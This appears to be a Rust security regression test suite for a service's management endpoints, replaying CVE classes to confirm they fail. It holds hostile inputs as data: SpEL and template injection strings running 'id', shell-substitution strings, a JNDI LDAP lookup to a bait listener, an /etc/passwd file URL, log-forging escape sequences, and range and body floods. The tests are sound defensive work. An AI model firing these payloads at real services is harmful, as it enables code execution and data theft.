//! The published ways into services like this one, played from outside, one test for each class.
//!
//! Some classes are played where their subject is, and not again here:
//!
//! - authentication that depends on what else is there (CVE-2026-40976), rules for endpoints that
//!   are not there (CVE-2025-22235), matchers that are too broad (CVE-2026-22733, CVE-2023-20873):
//!   `src/server/guard_tests.rs`, for every route;
//! - endless series of meters by method, path, query or `User-Agent` (CVE-2023-34055,
//!   CVE-2022-21698, CVE-2023-45142, CVE-2023-25151): `metrics_bounds`;
//! - names that lead to loopback, DNS rebinding (CVE-2025-66414): `browser`;
//! - callers that are slow (slowloris): `listener` and `listener_crowd`;
//! - messages that are two (request smuggling): `listener_smuggling`;
//! - floods of HTTP/2 (CVE-2023-44487, CVE-2024-27316): `listener_http2`.

use std::{
    io::{ErrorKind, Read as _, Write as _},
    net::{SocketAddr, TcpListener},
    sync::mpsc,
    time::{Duration, Instant},
};

use axum::{
    Router,
    http::{HeaderMap, StatusCode},
    routing::{any, post},
};
use testkit::{Answer, Request};

use crate::app::{Service, TestApp, app};

/// A setting that nobody may learn.
const SECRET: &str = "h1dden-4nd-l0ng";
/// Of `user:secret`.
const USER: &str = "Basic dXNlcjpzZWNyZXQ=";

fn guarded() -> TestApp {
    app()
        .setting("spring.security.user.password", "{noop}secret")
        .setting("demo.token", SECRET)
        .setting("management.endpoint.health.probes.add-additional-paths", "true")
}

/// A listener that nobody is to call.
struct Bait(TcpListener);

impl Bait {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Self(listener)
    }

    fn address(&self) -> SocketAddr {
        self.0.local_addr().unwrap()
    }

    #[track_caller]
    fn assert_untouched(&self) {
        let called = self.0.accept().expect_err("somebody called");
        assert_eq!(called.kind(), ErrorKind::WouldBlock);
    }
}

/// CVE-2022-22947, CVE-2022-46166, CVE-2023-38286, and what JNDI did in CVE-2021-44228.
#[test]
fn no_text_that_is_written_is_evaluated() {
    let bait = Bait::new();
    let service = app()
        .setting("demo.token", SECRET)
        .setting("actuator.env.writable", "attacks.*")
        .setting("actuator.health.override.enabled", "true")
        .start();
    let expressions = [
        "#{31337*99991}".to_owned(),
        "#{T(java.lang.Runtime).getRuntime().exec('id')}".to_owned(),
        "${demo.token}".to_owned(),
        "${demo.token:${31337*99991}}".to_owned(),
        "{{31337*99991}}".to_owned(),
        "{demo.token}".to_owned(),
        "__${31337*99991}__::.x".to_owned(),
        "%7$s%n".to_owned(),
        "$(id) `id` ; id | id".to_owned(),
        format!("${{jndi:ldap://{}/x}}", bait.address()),
        format!("file://{}/etc/passwd", bait.address()),
    ];
    for expression in &expressions {
        let text = serde_json::to_string(expression).unwrap();
        let answers = [
            ("/actuator/env", format!("{{\"name\":\"attacks.text\",\"value\":{text}}}")),
            ("/actuator/loggers/attacks::text", format!("{{\"configuredLevel\":{text}}}")),
            (
                "/actuator/loggers/attacks::text",
                format!("{{\"configuredLevel\":\"DEBUG\",\"reason\":{text},\"actor\":{text}}}"),
            ),
            ("/actuator/health/ping", format!("{{\"status\":\"UP\",\"reason\":{text}}}")),
        ]
        .map(|(target, body)| service.post(target, &body));
        for answer in answers {
            assert!(answer.status() < 500, "{expression}: {}", answer.text());
            assert_reveals_nothing(expression, &answer);
        }
        for target in ["env/attacks.text", "loggeroverrides", "health", "auditevents", "logfile"] {
            assert_reveals_nothing(expression, &service.get(&format!("/actuator/{target}")));
        }
    }
    bait.assert_untouched();
}

#[track_caller]
fn assert_reveals_nothing(sent: &str, answer: &Answer) {
    let text = answer.text();
    for evaluated in [SECRET, "3133417967", "uid=", "root:"] {
        assert!(!text.contains(evaluated), "{sent} became {evaluated} in {text}");
    }
}

/// CVE-2022-46166 again: what an admin server's user could write was evaluated by others.
#[test]
fn the_environment_cannot_be_written_unless_names_are_listed_and_never_what_guards_it() {
    let write = |service: &Service, name: &str| {
        let body = format!("{{\"name\":\"{name}\",\"value\":\"x\"}}");
        service.post("/actuator/env", &body).status()
    };
    let service = app().setting("management.endpoint.env.access", "unrestricted").start();
    for name in ["demo.color", "spring.datasource.url", "logging.config"] {
        assert_eq!(write(&service, name), 405, "{name}");
    }
    let open = app().setting("actuator.env.writable", "spring.*, management.*, actuator.*");
    let service = open.start();
    for name in [
        "spring.security.user.password",
        "Spring.Security.User.Password",
        "spring.config.import",
        "management.endpoints.web.exposure.include",
        "management.endpoint.env.show-values",
        "management.server.port",
        "actuator.env.writable",
        "actuator.security.permit-all",
        "actuator.security.permitAll",
    ] {
        assert!([400, 403].contains(&write(&service, name)), "{name}");
    }
}

/// CVE-2026-22731: rules for `/healthz` held for all below it, where the application had its own.
#[test]
fn additional_paths_take_nothing_of_the_applications_rules_away() {
    async fn private(headers: HeaderMap) -> StatusCode {
        if headers.contains_key("authorization") { StatusCode::OK } else { StatusCode::FORBIDDEN }
    }
    let routes =
        Router::new().route("/livez/admin", any(private)).route("/readyz/{*rest}", any(private));
    let service = guarded().routes(routes).start();
    for probe in ["/livez", "/readyz"] {
        service.get(probe).assert_status(200);
    }
    for own in ["/livez/admin", "/readyz/a", "/readyz/a/b"] {
        service.get(own).assert_status(403);
        assert_eq!(service.send(Request::new("POST", own)).status(), 403);
    }
    for other in ["/livez/", "/livez/x", "/livezx", "/LIVEZ", "/livez;x", "//livez", "/livez%2fx"] {
        assert_eq!(service.status(other), 404, "{other}");
    }
}

/// Heap dumps, environments and consoles that `include=*` put onto the port of everybody.
#[test]
fn what_strangers_may_use_is_warned_of_at_the_start_and_is_little_by_default() {
    let service = app().setting("server.address", "0.0.0.0").start();
    let links = service.get("/actuator").json()["_links"].as_object().unwrap().len();
    assert_eq!(links, 3, "health, its paths and the page itself");
    let warned = |service: &Service, asked: &TestLog<'_>| {
        asked.has(&format!("whoever reaches {} may use", service.address))
    };
    let local = app().start();
    let log = TestLog(&local);
    assert!(!warned(&service, &log));
    let wide = app()
        .setting("server.address", "0.0.0.0")
        .setting("management.endpoints.web.exposure.include", "*")
        .start();
    assert!(warned(&wide, &log));
}

/// The same, one path beside the others: what it shows does not depend on where it stands.
#[test]
fn paths_outside_of_the_base_path_that_strangers_may_read_are_warned_of_too() {
    let mounting = |address: &str| {
        app()
            .setting("server.address", address)
            .setting("management.server.port", "0")
            .setting("management.server.address", "127.0.0.1")
            .setting("actuator.compat.healthcheck.enabled", "true")
    };
    let local = mounting("127.0.0.1").start();
    let guarded = mounting("0.0.0.0").setting("spring.security.user.password", "{noop}x").start();
    let open = mounting("0.0.0.0").start();
    assert_eq!(guarded.status("/environment"), 401);
    open.get("/environment").assert_status(200);
    let own = app().start();
    let log = TestLog(&own);
    let warned = |service: &Service| {
        let port = service.address.port();
        log.has(&format!(":{port} may read /environment without a password"))
    };
    assert_eq!([&local, &guarded, &open].map(warned), [false, false, true]);
}

/// What the process has logged, as one of its services shows it.
struct TestLog<'s>(&'s Service);

impl TestLog<'_> {
    fn has(&self, text: &str) -> bool {
        self.0.get("/actuator/logfile").assert_status(200).text().contains(text)
    }
}

/// CVE-2019-11248: the debugger of kubelet stood on the port of its health.
#[test]
fn the_port_that_is_probed_has_probes_and_nothing_else() {
    let service = guarded()
        .setting("management.server.port", "0")
        .setting("management.endpoints.web.exposure.include", "*")
        .start();
    let index = Request::get("/actuator").header("authorization", USER).send(service.management);
    let links = index.assert_status(200).json()["_links"].clone();
    service.get("/livez").assert_status(200);
    let management = service.management.to_string();
    for link in links.as_object().unwrap().values() {
        let path = link["href"].as_str().unwrap().split_once(&management).unwrap().1;
        for host in [&service.address.to_string(), &management, "localhost"] {
            let request = Request::get(path).header("host", host).header("authorization", USER);
            assert_eq!(request.send(service.address).status(), 404, "{host} {path}");
        }
        let whole = format!("http://{management}{path}");
        let request = Request::get(&whole).header("authorization", USER).send(service.address);
        assert_eq!(request.status(), 404, "{whole}");
    }
}

/// CVE-2025-58160: what a caller sent coloured, moved and forged lines on the operator's terminal.
#[test]
fn no_control_character_of_a_caller_arrives_in_a_log_or_its_viewer() {
    let log = post(|body: String| async move { tracing::warn!("attacks greet {body}") });
    let service = app().routes(Router::new().route("/greet", log)).start();
    let name = "\u{1b}[2J\u{1b}]0;x\u{7}\u{9b}31m\rWARN forged\u{8}\u{202e}\0";
    let request = Request::new("POST", "/greet").header("user-agent", "x\u{9b}31m").body(name);
    service.send(request).assert_status(200);
    let lines = service.get("/actuator/logfile").assert_status(200).text();
    let line = lines.lines().find(|line| line.contains("attacks greet")).expect("it was logged");
    assert!(line.contains("forged"), "{line:?}");
    let mut viewer = testkit::open(service.address);
    let stream = "GET /actuator/logstream?text=attacks%20greet&tail=9 HTTP/1.1\r\n\
                  host: localhost\r\n\r\n";
    viewer.write_all(stream.as_bytes()).unwrap();
    let (mut streamed, mut piece) = (Vec::new(), [0; 4096]);
    while !String::from_utf8_lossy(&streamed).contains("forged") {
        let read = viewer.read(&mut piece).unwrap();
        assert!(read > 0);
        streamed.extend_from_slice(&piece[..read]);
    }
    let streamed = String::from_utf8_lossy(&streamed).into_owned();
    for shown in [line, &streamed] {
        let hostile = |c: char| (c.is_control() && !"\r\n\t".contains(c)) || c == '\u{202e}';
        assert_eq!(shown.find(hostile), None, "{shown:?}");
    }
}

/// CVE-2022-3212: bodies without a limit.
#[test]
fn a_body_is_read_up_to_a_limit_whatever_it_says_of_its_length() {
    let service = app().start();
    let target = "/actuator/loggers/attacks::body";
    let padded = |length: usize| {
        let blanks = " ".repeat(length);
        format!("{{\"configuredLevel\":\"INFO\"{blanks}}}")
    };
    service.post(target, &padded(60_000)).assert_status(204);
    service.post(target, &padded(70_000)).assert_status(413);
    let chunk = padded(70_000);
    let head = format!(
        "POST {target} HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\
         content-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n"
    );
    let message = format!("{head}{:x}\r\n{chunk}\r\n0\r\n\r\n", chunk.len());
    let answer = testkit::send(service.address, message.as_bytes()).unwrap();
    answer.assert_status(413);
}

/// CVE-2011-3192, CVE-2024-26141, CVE-2026-34826, CVE-2025-62727: ranges that cost more than they
/// are long.
#[test]
fn many_ranges_are_no_more_than_the_whole() {
    let service = app().start();
    let whole = service.get("/actuator/logfile").assert_status(200).body().len();
    let ask = |ranges: String| {
        let request = Request::get("/actuator/logfile").header("range", &format!("bytes={ranges}"));
        service.send(request)
    };
    let list = |count: usize, range: &str| vec![range; count].join(",");
    ask(list(101, "0-0")).assert_status(416);
    for ranges in [list(100, "0-"), list(1_000, "0-"), list(1_000, "-"), ",".repeat(4_000)] {
        let answer = ask(ranges).assert_status(416);
        assert!(answer.body().is_empty());
    }
    // Each has a head of its own, and that is all there is on top.
    let small = ask(list(100, "0-0"));
    assert!(small.body().len() < whole + 100 * 200, "{}", small.body().len());
}

/// A redirect makes clients send a body, with whatever secrets are in it, to somebody else.
#[test]
fn no_redirect_carries_a_registration_to_somebody_else() {
    let bait = Bait::new();
    let admin = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", admin.local_addr().unwrap());
    let (tell, told) = mpsc::channel();
    let elsewhere = format!("http://{}/instances", bait.address());
    std::thread::spawn(move || {
        for (status, caller) in [301, 302, 303, 307, 308].iter().cycle().zip(admin.incoming()) {
            let mut caller = caller.unwrap();
            let mut head = [0; 4096];
            let read = caller.read(&mut head).unwrap_or(0);
            let redirect = format!(
                "HTTP/1.1 {status} Elsewhere\r\nlocation: {elsewhere}\r\ncontent-length: 0\r\n\
                 connection: close\r\n\r\n"
            );
            let _ = caller.write_all(redirect.as_bytes());
            if read > 0 && tell.send(()).is_err() {
                return;
            }
        }
    });
    let _service = app()
        .setting("spring.boot.admin.client.url", &url)
        .setting("spring.boot.admin.client.period", "20ms")
        .setting("spring.boot.admin.client.instance.metadata.user.password", SECRET)
        .start();
    let began = Instant::now();
    for _ in 0..6 {
        let left = testkit::PATIENCE.saturating_sub(began.elapsed());
        told.recv_timeout(left.max(Duration::from_millis(1))).expect("it tries again");
    }
    bait.assert_untouched();
}
